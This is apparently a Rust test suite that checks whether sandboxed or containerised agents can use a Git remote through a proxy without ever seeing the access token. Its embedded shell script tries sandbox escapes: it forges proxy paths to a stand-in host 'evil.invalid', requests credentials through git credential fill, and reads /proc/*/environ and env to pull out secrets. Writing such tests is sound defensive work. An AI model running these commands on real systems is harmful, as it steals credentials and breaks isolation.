//! Git remotes of isolated agents: fetch and push with a token that the agent does not have.

use heeler_testkit::{GitServer, TEST_IMAGE, TEST_VOLUME, TestEngine};

use crate::fleet::{Fleet, Ran};

/// Token that the agent must not see.
const TOKEN: &str = "git-token-8812-of-the-fleet";

/// Clones and pushes, then tries to get the token, or to use it elsewhere.
const WORK: &str = r#"
set -u
git clone -q "$REMOTE/acme/app.git" copy > clone 2>&1
cd copy
echo more >> readme
git -c user.name=A -c user.email=a@example.com commit -q -a -m Change > ../commit 2>&1
git push -q origin HEAD:refs/heads/agent > ../push 2>&1
cd ..
git ls-remote "git@127.0.0.1:acme/app" > ssh-form 2>&1
# Attacks.
git clone -q "$REMOTE/acme/private.git" stolen > other-path 2>&1
git clone -q "$REMOTE/acme/app-private.git" stolen > longer-name 2>&1
git clone -q "http://127.0.0.1:3128/.heeler-git/${REMOTE#http://}/acme/private" stolen > forged 2>&1
git clone -q "http://127.0.0.1:3128/.heeler-git/evil.invalid/acme/app" stolen > other-host 2>&1
git clone -q "$REMOTE/moved/app.git" stolen > redirect 2>&1
curl -sS "http://127.0.0.1:3128/.heeler-git/${REMOTE#http://}/acme/app/settings" > other-call 2>&1
printf 'protocol=http\nhost=%s\n\n' "${REMOTE#http://}" | GIT_TERMINAL_PROMPT=0 git credential fill > asked 2>&1
env > env
cat /proc/*/environ > environ 2> /dev/null
cat /proc/*/cmdline > args 2> /dev/null
ls stolen > stolen-files 2>&1
echo done
"#;

/// A fleet with one agent whose isolation has these keys.
fn fleet(server: &GitServer, isolation: &str, dotenv: &str) -> Fleet {
    let fleet = Fleet::empty();
    let url = server.url();
    fleet.write(
        "heeler.yaml",
        &format!(
            "agents:\n  - name: coder\n    runtime: command\n    command: exec sh work.sh\n    \
             working_directory: work\n    secrets: [DEPLOY_TOKEN]\n    env: {{REMOTE: '{url}'}}\n    \
             {isolation}\n    sandbox:\n      git:\n        \
             - {{remote: '{url}/acme/app', token_env: DEPLOY_TOKEN}}\n        \
             - {{remote: '{url}/moved/app', token_env: DEPLOY_TOKEN}}\n"
        ),
    );
    std::fs::create_dir(fleet.file("work")).unwrap();
    fleet.write("work/work.sh", WORK);
    fleet.write(".env", dotenv);
    fleet
}

fn server() -> GitServer {
    let server = GitServer::start(TOKEN);
    server.create_repository("acme/app", "public\n");
    server.create_repository("acme/private", "secret\n");
    server.create_repository("acme/app-private", "secret\n");
    server
}

/// Runs the agent and checks that it worked, and that no attack gained anything.
fn check(server: &GitServer, fleet: &Fleet) {
    let mut trigger = fleet.command(&["trigger", "coder", "-p", "x"]);
    trigger.env("DEPLOY_TOKEN", TOKEN);
    let said = Ran::from(trigger.output().unwrap()).ok();
    let read = |name: &str| fleet.read(&format!("work/{name}"));
    assert_eq!(
        server.branches("acme/app"),
        ["agent", "main"],
        "{said}{}{}",
        read("clone"),
        read("push")
    );
    assert!(read("ssh-form").contains("refs/heads/main"), "{}", read("ssh-form"));
    for attack in ["other-path", "longer-name", "forged", "other-host", "redirect"] {
        assert!(read(attack).contains("fatal:"), "{attack}: {}", read(attack));
    }
    assert!(read("redirect").contains("redirect, which is not followed"), "{}", read("redirect"));
    assert!(read("other-call").contains("git's own protocol"), "{}", read("other-call"));
    assert!(read("stolen-files").contains("No such file"), "{}", read("stolen-files"));
    let used = server.accepted();
    let is_allowed = |path: &String| {
        path.starts_with("/acme/app.git/")
            || path.starts_with("/acme/app/")
            || path.starts_with("/moved/")
    };
    assert!(used.iter().all(is_allowed), "{used:?}");
    assert_eq!(server.refused(), [""; 0], "nothing reaches the server past the proxy");
    let mut grep = std::process::Command::new("grep");
    let found = grep.args(["-rla", TOKEN]).arg(fleet.file(".")).output().unwrap();
    assert!(found.stdout.is_empty(), "{}", String::from_utf8_lossy(&found.stdout));
    assert!(read("env").contains("DEPLOY_TOKEN=heeler-adds-the-credentials"), "{}", read("env"));
}

#[test]
fn a_sandboxed_agent_fetches_and_pushes_with_a_token_that_it_does_not_have() {
    let server = server();
    check(&server, &fleet(&server, "description: A coder.", ""));
}

#[test]
fn an_agent_in_a_container_fetches_and_pushes_with_a_token_that_it_does_not_have() {
    let (server, engine) = (server(), TestEngine::start());
    let docker =
        format!("docker: {{enabled: true, image: '{TEST_IMAGE}', volumes: ['{TEST_VOLUME}']}}");
    check(&server, &fleet(&server, &docker, &engine.dotenv()));
}

#[test]
fn a_remote_without_its_token_is_refused_with_the_cure() {
    let server = server();
    let fleet = fleet(&server, "description: A coder.", "");
    let config = fleet.read("heeler.yaml").replace("secrets: [DEPLOY_TOKEN]", "secrets: []");
    fleet.write("heeler.yaml", &config);
    let said = fleet.run(&["trigger", "coder", "-p", "x"]).fails(1);
    assert!(said.contains("DEPLOY_TOKEN") && said.contains("`secrets`"), "{said}");
    assert!(!fleet.file("work/clone").exists());
}
